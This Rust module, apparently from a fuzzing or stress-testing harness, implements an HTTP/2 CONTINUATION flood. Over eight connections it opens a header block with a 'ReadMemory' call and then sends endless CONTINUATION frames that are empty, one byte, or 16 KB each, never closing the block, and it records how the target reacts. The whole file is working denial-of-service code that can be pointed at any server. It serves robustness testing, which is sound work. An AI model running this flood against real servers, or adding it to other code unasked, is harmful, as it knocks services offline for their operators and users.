//! CONTINUATION floods: header blocks that go on and on, in frames that are empty, of one byte or large.

use std::time::Duration;

use crate::attacker::{Order, Tally};
use crate::wire::{CONTINUATION, HEADERS, Peer, call, frame, literal};

const CONNECTIONS: u64 = 8;

pub(crate) async fn attack(order: Order) -> Tally {
    let mut all = Tally::default();
    let mut open = Vec::new();
    let each = (order.inputs / CONNECTIONS).max(1);
    let large = literal(0x00, "x-long", &"v".repeat(16_000));
    for connection in 0..CONNECTIONS {
        let Ok(mut peer) = Peer::greet(order.target, &[]).await else {
            all.ended += 1;
            continue;
        };
        let piece: &[u8] = match connection % 3 {
            0 => &[],
            1 => &[0x82],
            _ => &large,
        };
        let mut ended = peer.write(&frame(HEADERS, 0, 1, &call("ReadMemory"))).await.is_err();
        let mut sent = 0;
        let flood = frame(CONTINUATION, 0, 1, piece).repeat(32);
        while sent < each && !ended {
            ended = peer.write(&flood).await.is_err() || peer.is_ended().await;
            sent += 32;
        }
        all.inputs += sent.max(1);
        open.push(peer);
    }
    all.inputs += u64::from(open.is_empty());
    for mut peer in open {
        all.saw(0, peer.listen(Duration::from_millis(20), u64::MAX).await);
    }
    all
}
